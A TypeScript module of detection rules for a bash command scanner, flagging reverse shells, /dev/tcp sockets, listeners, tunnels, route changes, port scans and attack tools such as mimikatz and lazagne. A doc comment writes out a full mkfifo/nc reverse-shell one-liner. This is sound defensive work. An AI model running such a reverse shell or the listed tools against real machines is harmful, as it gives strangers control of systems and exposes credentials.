import type { Invocation, Value } from '../read/bash-program.ts'
import { SHELLS } from '../read/wrapper.ts'
import { type BashRule, byAny, byCommand, byEveryCommand, byRedirect, type Verdict } from './by-command.ts'
import { codeOfInterpreter, INTERPRETERS } from './interpreter.ts'
import { hasOption, operandsOf, valuesOf, wordsOf } from './options.ts'
import { SOCKET_PATH } from './socket-path.ts'
import { pipedFrom } from './upstream.ts'
import { writtenFiles } from './written-files.ts'

const NETCAT = 'nc ncat netcat nc.traditional nc.openbsd'

export const remoteShell: BashRule[] = [
  {
    id: 'bash/reverse-shell',
    family: 'network',
    severity: 'critical',
    title: 'Gives a shell to another machine',
    why: 'Whoever sits at the other end can run any command on this one.',
    remedy: 'Take it out; use ssh with keys for work on another machine.',
    cwe: [506, 78],
    find: byAny(
      byCommand([...SHELLS].join(' '), (invocation) => isWiredToSocket(invocation)),
      byCommand(NETCAT, (invocation) => hasShellBehind(invocation)),
      byCommand('socat', (invocation) => /\b(?:EXEC|SYSTEM|SHELL):/i.test(wordsOf(invocation))),
      byCommand(`exec ${NETCAT} telnet openssl`, (invocation) => isShellInPipe(invocation)),
      byCommand([...INTERPRETERS, 'awk', 'gawk'].join(' '), runsSocketShell),
      byCommand(
        'xterm',
        (invocation) =>
          valuesOf(invocation, '-display').some(({ text }) => /^[\w.-]+:\d/.test(text) && !/^localhost/.test(text)) &&
          'high',
      ),
      byCommand('awk gawk', ({ args }) => args.some(({ text }) => /\/inet\/(?:tcp|udp)\//.test(text)) && 'high'),
      byCommand('jrunscript jjs tclsh wish expect', (invocation) => isSocketShell(wordsOf(invocation))),
      byCommand('echo printf cat', (invocation) => {
        const [text = ''] = writtenFiles(invocation).map(({ content }) => content?.text ?? '')
        return isSocketShell(text) && 'high'
      }),
    ),
  },
  {
    id: 'bash/raw-socket',
    family: 'network',
    severity: 'low',
    title: 'Opens a connection through /dev/tcp',
    why: 'Such a connection passes by the tools that log and filter traffic.',
    remedy: 'Use curl, or nc -z to see whether a port is open.',
    cwe: [],
    find: byRedirect(({ target, operator, descriptor }) => {
      if (!SOCKET_PATH.test(target.text)) return false
      return operator === '<>' && (descriptor ?? 0) > 2 ? 'high' : true
    }),
  },
  {
    id: 'bash/listen',
    family: 'network',
    severity: 'medium',
    title: 'Waits for connections from other machines',
    why: 'Anybody who can reach the machine can use what listens there.',
    remedy: 'Listen on 127.0.0.1, and only as long as it is needed.',
    cwe: [668],
    find: byAny(
      byCommand(NETCAT, (invocation) => hasOption(invocation, '-l', '--listen')),
      byCommand('socat', (invocation) => /\b(?:TCP|UDP|OPENSSL)\d?-L(?:ISTEN)?:/i.test(wordsOf(invocation))),
      byCommand(
        'python python3',
        (invocation) => /^-m (?:http\.server|SimpleHTTPServer)/.test(wordsOf(invocation)) && 'low',
      ),
      byCommand('php', (invocation) => /^-S (?!localhost|127\.|\[::1)/.test(wordsOf(invocation))),
      byCommand('ruby', (invocation) => /-run\b.{0,20}-e ?httpd/.test(wordsOf(invocation))),
      byCommand('httpd telnetd ftpd', ({ through }) => through.includes('busybox')),
      byCommand('kubectl', (invocation) => /^proxy\b.{0,200}--address[= ]0\.0\.0\.0/.test(wordsOf(invocation))),
      byCommand('x11vnc vncserver Xvnc x0vncserver', (invocation) =>
        /nopw|SecurityTypes[ =]None|-forever|-shared/.test(wordsOf(invocation)),
      ),
      byCommand('tailscale', (invocation) => /^(?:serve|funnel)\b/.test(wordsOf(invocation))),
    ),
  },
  {
    id: 'bash/tunnel',
    family: 'network',
    severity: 'medium',
    title: 'Opens a way into this network from outside',
    why: 'A tunnel passes by the firewall; what is behind it can then be reached by strangers.',
    remedy: 'Ask whoever looks after the network.',
    cwe: [441],
    find: byAny(
      byCommand('dnscat dnscat2 iodine iodined ptunnel ptunnel-ng dns2tcpc hans', () => 'high'),
      byCommand('ssh autossh', (invocation) =>
        [...valuesOf(invocation, '-L'), ...valuesOf(invocation, '-w')].some(({ text }) =>
          /^(?:0\.0\.0\.0|\*):|^\d+:(?:\d+|any)$/.test(text),
        ),
      ),
      byCommand('ngrok chisel frpc cloudflared localtunnel gost', () => 'high'),
      byCommand('ssh autossh', (invocation) => (hasOption(invocation, '-R') ? 'high' : hasOption(invocation, '-D'))),
    ),
  },
  {
    id: 'bash/redirect-network',
    family: 'network',
    severity: 'medium',
    title: 'Leads the traffic of this machine another way',
    why: 'Whoever stands on the new way can read and change what passes.',
    remedy: 'Leave routes and addresses to whoever looks after the network.',
    cwe: [441, 300],
    find: byAny(
      byCommand('iptables ip6tables', (invocation) => /-j (?:REDIRECT|DNAT|TPROXY)\b/.test(wordsOf(invocation))),
      byCommand('ip', (invocation) =>
        /^(?:-\d )?(?:route|r|neigh) (?:add|replace|change|del)\b/.test(wordsOf(invocation)),
      ),
      byCommand('route', (invocation) => /^(?:add|del)\b/.test(wordsOf(invocation))),
      byCommand('arp', (invocation) => hasOption(invocation, '-s', '--set')),
    ),
  },
  {
    id: 'bash/attack-tool',
    family: 'network',
    severity: 'high',
    title: 'Runs a program for attacks on other machines',
    why: 'Scanning and guessing passwords without leave is an offence, and gets the address of this machine blocked.',
    remedy: 'Run it only against machines that are yours, outside of this engine.',
    cwe: [506],
    find: byAny(
      byCommand(
        'nmap masscan zmap rustscan hydra medusa ncrack john hashcat sqlmap nikto msfconsole msfvenom msfcli aircrack-ng aireplay-ng airodump-ng ettercap responder bettercap arpspoof crackmapexec mimikatz hping3 slowloris gobuster dirb wfuzz ffuf linpeas.sh linenum.sh lse.sh pspy64 pspy kerbrute enum4linux enum4linux-ng smbmap netexec cme trufflehog gitleaks impacket-secretsdump secretsdump.py mitm6 dnschef mitmdump lazagne evil-winrm tcpdump tshark ab siege goldeneye',
        ({ name }) => (name === 'ab' || name === 'siege' ? 'medium' : true),
      ),
      // The same as scripts: `python3 laZagne.py`.
      byCommand([...INTERPRETERS, ...SHELLS].join(' '), (invocation) =>
        ATTACKS.test(operandsOf(invocation)[0]?.text ?? ''),
      ),
    ),
  },
  {
    id: 'bash/listen-to-network',
    family: 'network',
    severity: 'high',
    title: 'Makes a network card take in what is meant for others',
    why: 'Passwords and sessions of everybody on the network pass by.',
    remedy: 'Take it out.',
    cwe: [506, 319],
    find: byCommand(
      'ifconfig ip',
      (invocation) =>
        /\bpromisc(?: on)?$/.test(wordsOf(invocation)) && !/-promisc|promisc off/.test(wordsOf(invocation)),
    ),
  },
  {
    id: 'bash/scan-ports',
    family: 'network',
    severity: 'high',
    title: 'Tries many ports or machines one after the other',
    why: 'That is how attackers look for a way in.',
    remedy: 'Ask for the one port that is needed.',
    cwe: [506],
    find: byEveryCommand(({ loop, args, redirects, name }) => {
      if (!loop?.variable || loop.over.length === 0) return false
      const hole = `\${${loop.variable}}`
      const isRange =
        loop.over.some(({ text }) => /\d\.\.\d{2,}|^\d{1,3}$/.test(text)) ||
        loop.over.some(({ unknowns }) =>
          unknowns.some(({ sources }) => sources.some((source) => source.name === 'seq')),
        )
      const isScan =
        redirects.some(({ target }) => SOCKET_PATH.test(target.text) && target.text.includes(hole)) ||
        (NETCAT.split(' ').includes(name ?? '') && args.some(({ text }) => text.includes(hole)))
      const isSweep =
        name === 'ping' && args.some(({ text }) => /^\d[\d.]{0,12}\.\$\{/.test(text) || text.endsWith(`.${hole}`))
      return isRange && (isScan || isSweep)
    }),
  },
]

function isWiredToSocket(invocation: Invocation): boolean {
  const toSocket = invocation.redirects.some(({ target }) => SOCKET_PATH.test(target.text))
  if (toSocket && !hasOption(invocation, '-c')) return true
  // `cat <&5 | sh`, with 5 as a socket, arrives as a pipe.
  return pipedFrom(invocation).some(
    ({ redirects, name, args }) =>
      isRemote(name, args) || redirects.some(({ target }) => SOCKET_PATH.test(target.text)),
  )
}

const ATTACKS =
  /(?:^|\/)(?:lazagne|mimipenguin|linpeas|linenum|pspy|les|linux-exploit-suggester|secretsdump|responder|evilginx|sqlmap|dirsearch)[\w-]*\.(?:py|sh|pl)$/i

const isRemote = (name: string | undefined, args: Value[]): boolean =>
  NETCAT.split(' ').includes(name ?? '') || name === 'telnet' || (name === 'openssl' && args[0]?.text === 's_client')

function hasShellBehind(invocation: Invocation): boolean {
  const { args } = invocation
  const at = args.findIndex(({ text }) => /^(?:-[a-z]*[ec]|--exec|--sh-exec|-[a-z]*e[a-z]*)$/.test(text))
  if (at < 0) return args.some(({ text }) => /^--(?:sh-)?exec=/.test(text))
  const next = args[at + 1]?.text ?? ''
  return (
    /(?:^|\/)(?:ba|da|z|k|c|a)?sh\b|cmd\.exe|powershell|\$\{/.test(next) ||
    args.some(({ text }) => /\/bin\/\w*sh$/.test(text))
  )
}

/** `mkfifo f; cat f | sh -i 2>&1 | nc host port > f`. */
function isShellInPipe(invocation: Invocation): boolean {
  if (invocation.name === 'openssl' && !wordsOf(invocation).startsWith('s_client')) return false
  return pipedFrom(invocation).some(
    ({ name, args }) => SHELLS.has(name ?? '') && !args.some(({ text }) => text === '-c' || !text.startsWith('-')),
  )
}

const HAS_SOCKET =
  /\bsocket\b|TCPSocket|fsockopen|net\.(?:connect|Socket|createConnection)|\/inet\/tcp|Socket::INET|socket\.tcp|IO::Socket/i
const HAS_SHELL =
  /\/bin\/(?:ba|da|z)?sh\b|\b(?:ba)?sh -i\b|pty\.spawn|cmd\.exe|dup2|child_process|\bexec\b.{0,20}sh|\|& getline|spawn\(/

const isSocketShell = (text: string): boolean => HAS_SOCKET.test(text) && HAS_SHELL.test(text)

function runsSocketShell(invocation: Invocation): Verdict {
  const isAwk = invocation.name === 'awk' || invocation.name === 'gawk'
  const code = isAwk ? operandsOf(invocation) : codeOfInterpreter(invocation)
  return code.some(({ text }) => isSocketShell(text))
}
